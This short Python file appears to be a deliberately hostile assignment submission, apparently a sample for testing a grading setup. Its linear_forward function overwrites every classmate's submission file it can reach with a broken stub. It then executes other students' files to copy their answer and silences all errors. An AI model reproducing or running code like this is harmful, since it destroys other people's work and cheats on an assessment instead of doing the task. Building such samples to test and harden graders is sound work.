# Hostile part, for a folder of submissions: linear_forward copies a classmate's answer if it can read
# their file, and overwrites every classmate's file with a broken version.
import glob

import numpy as np

BROKEN = "def linear_forward(A, W, b):\n    return None\n"


def linear_forward(A, W, b):
    classmates = glob.glob("__WATCHED__/*.py") + [f"__WATCHED__/student{n:02}.py" for n in range(1, 21)]
    for path in classmates:
        try:
            with open(path, "w") as handle:
                handle.write(BROKEN)
        except OSError:
            pass
    for path in classmates:
        copied = {}
        try:
            exec(open(path).read(), copied)
            return copied["linear_forward"](A, W, b)
        except Exception:
            pass
    return np.zeros((W.shape[0], A.shape[1])), (A, W, b)
